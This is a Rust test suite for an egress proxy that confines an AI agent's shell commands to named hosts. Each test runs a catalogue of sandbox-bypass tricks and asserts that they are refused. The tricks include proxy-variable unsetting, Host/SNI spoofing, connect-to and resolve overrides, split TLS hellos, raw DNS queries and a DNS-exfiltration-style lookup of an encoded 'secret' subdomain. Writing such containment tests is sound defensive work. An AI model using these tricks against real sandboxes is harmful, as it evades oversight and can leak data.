//! Issue 35: egress by name, through `portcullis serve` and the official MCP TypeScript SDK client. Two
//! HTTPS servers listen on loopback: A (serving a file, a git repository, an npm package and a Python
//! wheel under the names api.test, git.test, registry.test, pypi.test) and B (b.test). The hub's egress
//! proxy resolves those names from a hosts file (`--egress-hosts`); each rule names the one host its
//! command may reach. curl, git, npm and pip reach theirs; every other way out is refused with the
//! reason in the tool result and the call's ledger row; and no trick gets a byte to B.
// Test helpers outside #[test] fns may unwrap and panic.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common::{Killed, Served, ledger_show, node_modules, serve_with_args, text_of};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// The hub's PATH: Debian's programs, not a developer's shims (pyenv's live in a home the test replaces).
const PATH: &str = "/usr/local/bin:/usr/bin:/bin";

fn egress_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/egress")
}

/// One HTTPS server of `tests/egress/server.mjs` over `fixtures/root`, logging to `log`.
fn server(fixtures: &Path, log: &Path) -> (Killed, u16) {
    let config = json!({
        "root": fixtures.join("root"), "cert": fixtures.join("cert.pem"), "key": fixtures.join("key.pem"), "log": log,
    });
    std::fs::write(log, "").unwrap();
    let mut child = Command::new("node")
        .arg(egress_dir().join("server.mjs"))
        .arg(config.to_string())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let port: Value = serde_json::from_str(&line).unwrap();
    (Killed(child), port["port"].as_u64().unwrap() as u16)
}

pub(crate) struct World {
    pub(crate) served: Served,
    _fixtures: tempfile::TempDir,
    _servers: [Killed; 2],
    pub(crate) a: u16,
    pub(crate) b: u16,
    pub(crate) b_log: PathBuf,
}

/// The servers, and a hub whose rules each name one host of server A.
fn world() -> World {
    world_with(false)
}

/// [`world`]; `ask`: curl's rule asks the operator for hosts it does not name.
pub(crate) fn world_with(ask: bool) -> World {
    node_modules();
    let fixtures = tempfile::tempdir().unwrap();
    let dir = fixtures.path().to_path_buf();
    let made = Command::new("sh").arg(egress_dir().join("fixtures.sh")).arg(&dir).output().unwrap();
    assert!(made.status.success(), "fixtures: {}", String::from_utf8_lossy(&made.stderr));
    let (a_server, a) = server(&dir, &dir.join("a.log"));
    let (b_server, b) = server(&dir, &dir.join("b.log"));
    let hosts = dir.join("hosts");
    std::fs::write(
        &hosts,
        "# the test's names, all on loopback\n127.0.0.1 api.test git.test registry.test pypi.test b.test\n",
    )
    .unwrap();
    let named = |id: &str, pattern: &[&str], host: &str| json!({"id": id, "pattern": pattern, "decision": "allow", "network": [format!("{host}:{a}")]});
    let mut fetch = named("fetch", &["curl"], "api.test");
    if ask {
        fetch["other_hosts"] = json!("prompt");
    }
    let policy = json!({"commands": {"default": "allow", "rules": [
        fetch,
        named("git-clone", &["git", "clone"], "git.test"),
        named("npm-install", &["npm", "install"], "registry.test"),
        named("pip", &["python3", "-m", "pip"], "pypi.test"),
        named("python", &["python3"], "api.test"),
        named("getent", &["getent"], "api.test"),
        named("openssl", &["openssl"], "api.test"),
        named("sh", &["sh"], "api.test"),
    ]}});
    let hosts_arg = hosts.display().to_string();
    let served = serve_with_args(
        &serde_json::to_string_pretty(&policy).unwrap(),
        &[("PATH", PATH)],
        &["--egress-hosts", &hosts_arg],
    );
    std::fs::copy(dir.join("cert.pem"), served.project().join("ca.pem")).unwrap();
    World { served, _fixtures: fixtures, _servers: [a_server, b_server], a, b, b_log: dir.join("b.log") }
}

pub(crate) fn call(command: &str) -> Value {
    json!({"op": "call", "name": "shell", "arguments": {"command": command}})
}

#[test]
fn curl_git_npm_and_pip_reach_the_host_their_rule_names() {
    let w = world();
    let a = w.a;
    let project = w.served.project();
    let ca = project.join("ca.pem");
    let ca = ca.display();
    // npm's settings from the project (options on the command line would need the operator's approval).
    let npmrc = format!(
        "registry=https://registry.test:{a}/\ncafile=ca.pem\ncache=.npm-cache\naudit=false\nfund=false\nupdate-notifier=false\n"
    );
    std::fs::write(project.join(".npmrc"), npmrc).unwrap();
    let steps = json!([
        call(&format!("curl -sS --cacert ca.pem https://api.test:{a}/hello.txt")),
        // The clone is read in the same command: the repository a command makes in a write root is
        // discarded when it ends (git would run its config later: issue 51, finding 2).
        call(&format!(
            "git clone -q -c http.sslCAInfo={ca} https://git.test:{a}/repo.git cloned && cd cloned && git log --format=%s"
        )),
        call("npm install tiny-egress-pkg"),
        call(&format!(
            "python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check -d dl --index-url https://pypi.test:{a}/simple/ --cert ca.pem tinyegress"
        )),
    ]);
    let report = w.served.agent(steps);
    let text = |i: usize| text_of(&report["results"][i]["result"]);
    assert!(text(0).contains("hello from api.test"), "{}", text(0));
    assert!(text(0).contains(&format!("[network: api.test:{a}, ")), "{}", text(0));
    for (i, what) in [(1, "git"), (2, "npm"), (3, "pip")] {
        assert!(text(i).contains("[exit code: 0]"), "{what}: {}", text(i));
        assert!(!text(i).contains("[sandbox refused: network"), "{what}: {}", text(i));
    }
    assert!(text(1).contains("first commit over the egress proxy"), "{}", text(1));
    assert!(!project.join("cloned/.git/config").exists(), "a repository the command made was kept");
    assert!(text(1).contains("[change held for the operator: cloned/.git "), "{}", text(1));
    assert!(project.join("node_modules/tiny-egress-pkg/index.js").is_file(), "npm installed nothing");
    assert!(project.join("dl/tinyegress-1.0-py3-none-any.whl").is_file(), "pip downloaded nothing");
    // The ledger row of each keeps its connections: host, port, bytes, the rule.
    let shown = ledger_show(&w.served, "c2");
    assert!(shown.contains("network: only git.test:"), "{shown}");
    assert!(
        shown.contains(&format!("reached git.test:{a}")) && shown.contains("rule `git-clone`"),
        "{shown}"
    );
    let calls = crate::common::ledger_calls_when(&w.served, 4);
    assert_eq!(calls.len(), 4, "{calls:?}");
}

#[test]
fn every_other_way_out_is_refused_with_the_reason_in_the_result_and_the_ledger() {
    let w = world();
    let (a, b) = (w.a, w.b);
    let service = w.served.path("run");
    std::fs::create_dir_all(&service).unwrap();
    let socket = service.join("service.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    // Scripts an agent wrote (code on the command line would need the operator's approval).
    let scripts = [
        (
            "udp.py",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53))".to_owned(),
        ),
        ("icmp.py", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)".to_owned()),
        ("v6.py", "socket.create_connection(('2606:4700::1111', 443), timeout=2)".to_owned()),
        ("unix.py", format!("s = socket.socket(socket.AF_UNIX); s.connect('{}')", socket.display())),
    ];
    for (name, code) in &scripts {
        std::fs::write(w.served.project().join(name), format!("import socket\n{code}\n")).unwrap();
    }
    let py = |name: &str| call(&format!("python3 {name}"));
    let steps = json!([
        call(&format!("curl -sS --cacert ca.pem https://b.test:{b}/hello.txt")),
        call(&format!("curl -sS --cacert ca.pem https://127.0.0.1:{a}/hello.txt")),
        call("getent hosts c2VjcmV0.paste.example"),
        py("udp.py"),
        py("icmp.py"),
        py("v6.py"),
        py("unix.py"),
    ]);
    let report = w.served.agent(steps);
    let text = |i: usize| text_of(&report["results"][i]["result"]);
    let policy = w.served.policy_file().display().to_string();
    let expected = [
        format!(
            "[sandbox refused: network to b.test:{b} refused: rule `fetch` ({policy}) allows api.test:{a}]"
        ),
        "[sandbox refused: network to 127.0.0.1 refused: a raw IP address; rule `fetch`".to_owned(),
        "[sandbox refused: DNS lookup of c2vjcmv0.paste.example refused: the command has no resolver"
            .to_owned(),
        "[sandbox refused: ENETUNREACH".to_owned(),
        "[sandbox refused: EACCES".to_owned(),
        "[sandbox refused: EACCES".to_owned(),
        "[sandbox refused: EPERM".to_owned(),
    ];
    for (i, needle) in expected.iter().enumerate() {
        assert!(text(i).contains(needle), "step {i}: {needle} in {}", text(i));
        assert!(!text(i).contains("[exit code: 0]"), "step {i}: {}", text(i));
    }
    assert!(listener.accept().is_err(), "the host's Unix socket was reached");
    assert_eq!(std::fs::read_to_string(&w.b_log).unwrap(), "", "server B was reached");
    // Each refusal is in its call's ledger row.
    let shown = ledger_show(&w.served, "c1");
    assert!(shown.contains(&format!("refused: network to b.test:{b} refused: rule `fetch`")), "{shown}");
    let shown = ledger_show(&w.served, "c3");
    assert!(shown.contains("refused: DNS lookup of c2vjcmv0.paste.example"), "{shown}");
    let shown = ledger_show(&w.served, "c4");
    assert!(shown.contains("refused by the sandbox") && shown.contains("ENETUNREACH"), "{shown}");
}

/// The held-out style probe: a command allowed to reach A tries B by every trick we know. B's server
/// logs every request it gets; it must get none.
#[test]
fn no_trick_gets_a_command_allowed_to_reach_a_to_b() {
    let w = world();
    let (a, b) = (w.a, w.b);
    std::fs::write(
        w.served.project().join("resolver.py"),
        "import socket\n\
         q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01b\\x04test\\x00\\x00\\x01\\x00\\x01'\n\
         for server in [('8.8.8.8', 53), ('127.0.0.1', 53)]:\n\
         \x20   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n\
         \x20   try:\n\
         \x20       s.sendto(q, server); print(server[0], 'rcode', s.recv(512)[3] & 15)\n\
         \x20   except OSError as e:\n\
         \x20       print(server[0], e)\n",
    )
    .unwrap();
    // Changing the proxy variables from a script (on the command line it would need the operator).
    let unset = format!(
        "unset HTTPS_PROXY https_proxy ALL_PROXY all_proxy HTTP_PROXY http_proxy\n\
         NO_PROXY='*' no_proxy='*' curl -sS --cacert ca.pem https://b.test:{b}/hello.txt\n\
         https_proxy=http://b.test:{b} curl -sS --cacert ca.pem https://b.test:{b}/hello.txt\n"
    );
    std::fs::write(w.served.project().join("noproxy.sh"), unset).unwrap();
    let tricks = [
        format!("curl -sSL --cacert ca.pem 'https://api.test:{a}/redirect?to=https://b.test:{b}/hello.txt'"),
        format!("curl -sS -k https://127.0.0.1:{b}/hello.txt"),
        format!("curl -sS -g -k 'https://[::1]:{b}/hello.txt'"),
        format!("curl -sS -H 'Host: b.test:{b}' http://api.test:{a}/hello.txt"),
        format!("curl -sS --cacert ca.pem -H 'Host: b.test:{b}' https://api.test:{a}/hello.txt"),
        format!("openssl s_client -brief -proxy 127.0.0.1:3128 -connect api.test:{a} -servername b.test"),
        format!(
            "curl -sS --cacert ca.pem --connect-to api.test:{a}:b.test:{b} https://api.test:{a}/hello.txt"
        ),
        format!("curl -sS --cacert ca.pem https://api.test:{a}@b.test:{b}/hello.txt"),
        format!("curl -sS --noproxy '*' --cacert ca.pem https://b.test:{b}/hello.txt"),
        "sh noproxy.sh".to_owned(),
        format!("curl -sS -x socks5h://127.0.0.1:3128 --cacert ca.pem https://b.test:{b}/hello.txt"),
        format!("curl -sS -x socks5://127.0.0.1:3128 --cacert ca.pem https://b.test:{b}/hello.txt"),
        format!("curl -sS --proxytunnel -x http://127.0.0.1:3128 http://b.test:{b}/hello.txt"),
        format!(
            "curl -sS --noproxy '*' --resolve b.test:{b}:127.0.0.1 --cacert ca.pem https://b.test:{b}/hello.txt"
        ),
        format!("curl -sS -k https://2130706433:{b}/hello.txt"),
        "python3 resolver.py".to_owned(),
    ];
    let steps: Vec<Value> = tricks.iter().map(|t| call(t)).collect();
    let report = w.served.agent(json!(steps));
    for (i, trick) in tricks.iter().enumerate() {
        let text = text_of(&report["results"][i]["result"]);
        assert!(!text.is_empty(), "trick {i} ({trick}) has no result: {report}");
    }
    let resolver = text_of(&report["results"][15]["result"]);
    assert!(resolver.contains("8.8.8.8 [Errno 101] Network is unreachable"), "{resolver}");
    assert!(resolver.contains("127.0.0.1 rcode 5"), "the stub refuses: {resolver}");
    let sni = text_of(&report["results"][5]["result"]);
    assert!(!sni.contains("CONNECTION ESTABLISHED") || sni.contains("TLS names b.test"), "{sni}");
    assert_eq!(std::fs::read_to_string(&w.b_log).unwrap(), "", "a trick reached server B");
    // The tricks that reached the proxy are in their calls' ledger rows.
    let shown = ledger_show(&w.served, "c1");
    assert!(shown.contains(&format!("refused: network to b.test:{b} refused")), "{shown}");
    let shown = ledger_show(&w.served, "c6");
    assert!(shown.contains("TLS names b.test, not api.test"), "{shown}");
}

/// Issue 51, finding 11: a script sends a real ClientHello (Python's ssl) split over three handshake
/// records (a cut inside its 4-byte header, one in its middle) through `CONNECT api.test`. Asking for
/// b.test, the tunnel is cut before a byte of it reaches A; asking for api.test, the handshake completes
/// and the file comes back: the proxy reassembles the hello as the server does.
#[test]
fn a_client_hello_split_over_records_is_judged_whole() {
    let w = world();
    let a = w.a;
    let script = r#"import socket, ssl, sys
port, name = int(sys.argv[1]), sys.argv[2]
tls_in, tls_out = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ssl.create_default_context(cafile='ca.pem').wrap_bio(tls_in, tls_out, server_hostname=name)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
record = tls_out.read()
hello = record[5:5 + int.from_bytes(record[3:5], 'big')]
assert record[0] == 22 and len(record) == 5 + len(hello), 'one record'
cuts = [0, 2, len(hello) // 2, len(hello)]
split = b''.join(bytes([22, 3, 1]) + (b - a).to_bytes(2, 'big') + hello[a:b] for a, b in zip(cuts, cuts[1:]))
s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
s.sendall(f'CONNECT api.test:{port} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n'.encode())
answer = b''
while b'\r\n\r\n' not in answer:
    answer += s.recv(4096)
print('proxy:', answer.split(b'\r\n')[0].decode())
s.sendall(split)
def feed():
    data = s.recv(65536)
    if not data:
        print('closed by the proxy')
        sys.exit(3)
    tls_in.write(data)
while True:
    try:
        tls.do_handshake()
        break
    except ssl.SSLWantReadError:
        s.sendall(tls_out.read())
        feed()
tls.write(f'GET /hello.txt HTTP/1.1\r\nHost: api.test:{port}\r\nConnection: close\r\n\r\n'.encode())
s.sendall(tls_out.read())
body = b''
while b'hello from' not in body:
    try:
        body += tls.read(65536)
    except ssl.SSLWantReadError:
        feed()
print(body.decode(errors='replace'))
"#;
    std::fs::write(w.served.project().join("split_hello.py"), script).unwrap();
    let steps = json!([
        call(&format!("python3 split_hello.py {a} b.test")),
        call(&format!("python3 split_hello.py {a} api.test")),
    ]);
    let report = w.served.agent(steps);
    let text = |i: usize| text_of(&report["results"][i]["result"]);
    let fronted = text(0);
    assert!(fronted.contains("proxy: HTTP/1.1 200") && fronted.contains("closed by the proxy"), "{fronted}");
    assert!(
        fronted
            .contains("[sandbox refused: TLS names b.test, not api.test the tunnel was opened to: refused]"),
        "{fronted}"
    );
    let whole = text(1);
    assert!(whole.contains("hello from api.test") && whole.contains("[exit code: 0]"), "{whole}");
    assert!(!whole.contains("[sandbox refused"), "{whole}");
    let a_log = std::fs::read_to_string(w._fixtures.path().join("a.log")).unwrap();
    assert_eq!(
        a_log.matches("GET /hello.txt").count(),
        1,
        "only the hello naming api.test reached A: {a_log}"
    );
    let shown = ledger_show(&w.served, "c1");
    assert!(shown.contains("TLS names b.test, not api.test"), "{shown}");
}

/// Issue 51, finding 15: a script speaks plain HTTP to the proxy over a raw socket. Two requests kept
/// alive to the host its rule names are both answered; a third, pipelined behind them to another name
/// on the same address, is refused with a 403 in the rule's words and never reaches the server; a
/// request with two Host headers is refused before anything is connected.
#[test]
fn every_plain_http_request_on_a_connection_is_judged() {
    use std::io::{Read, Write};
    use std::sync::{Arc, Mutex};
    node_modules();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    // A plain HTTP server that answers every request head it reads, kept alive, and keeps what it read.
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (Ok(mut stream), log) = (stream, log.clone()) else { continue };
            std::thread::spawn(move || {
                let mut buf = [0u8; 65536];
                while let Ok(n @ 1..) = stream.read(&mut buf) {
                    log.lock().unwrap().extend_from_slice(&buf[..n]);
                    for _ in buf[..n].windows(4).filter(|w| w == b"\r\n\r\n") {
                        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nplain\n");
                    }
                }
            });
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let hosts = dir.path().join("hosts");
    std::fs::write(&hosts, "127.0.0.1 plain.test other.test\n").unwrap();
    let policy = json!({"commands": {"default": "allow", "rules": [
        {"id": "python", "pattern": ["python3"], "decision": "allow", "network": [format!("plain.test:{port}")]},
    ]}});
    let hosts_arg = hosts.display().to_string();
    let served = serve_with_args(
        &serde_json::to_string_pretty(&policy).unwrap(),
        &[("PATH", PATH)],
        &["--egress-hosts", &hosts_arg],
    );
    let script = r#"import socket, sys
port, mode = int(sys.argv[1]), sys.argv[2]
def get(host, path, extra=''):
    return f'GET http://{host}:{port}{path} HTTP/1.1\r\nHost: {host}:{port}\r\n{extra}\r\n'
if mode == 'pipelined':
    sent = get('plain.test', '/one') + get('plain.test', '/two') + get('other.test', '/three')
else:
    sent = get('plain.test', '/four', f'Host: other.test:{port}\r\n')
s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
s.sendall(sent.encode())
back = b''
while (data := s.recv(65536)):
    back += data
print(back.decode(errors='replace'))
"#;
    std::fs::write(served.project().join("pipeline.py"), script).unwrap();
    let steps = json!([
        call(&format!("python3 pipeline.py {port} pipelined")),
        call(&format!("python3 pipeline.py {port} duplicate")),
    ]);
    let report = served.agent(steps);
    let text = |i: usize| text_of(&report["results"][i]["result"]);
    let policy_file = served.policy_file().display().to_string();
    let pipelined = text(0);
    assert_eq!(pipelined.matches("HTTP/1.1 200 OK").count(), 2, "{pipelined}");
    assert_eq!(pipelined.matches("plain\n").count(), 2, "{pipelined}");
    let refusal = format!(
        "network to other.test:{port} refused: this connection was opened to plain.test:{port}, and a connection reaches one host; rule `python` ({policy_file}) allows plain.test:{port}"
    );
    assert!(pipelined.contains("HTTP/1.1 403 Forbidden"), "{pipelined}");
    assert!(pipelined.contains(&refusal), "the 403 and the call's result: {pipelined}");
    let duplicate = text(1);
    assert!(
        duplicate.contains("HTTP/1.1 403 Forbidden") && duplicate.contains("more than one Host header"),
        "{duplicate}"
    );
    assert!(
        duplicate.contains(&format!("rule `python` ({policy_file}) allows plain.test:{port}")),
        "{duplicate}"
    );
    let server_read = String::from_utf8(seen.lock().unwrap().clone()).unwrap();
    assert!(server_read.contains("GET /one") && server_read.contains("GET /two"), "{server_read}");
    assert!(!server_read.contains("other.test") && !server_read.contains("/three"), "{server_read}");
    assert!(!server_read.contains("/four"), "{server_read}");
    let shown = ledger_show(&served, "c1");
    assert!(shown.contains(&refusal), "{shown}");
}
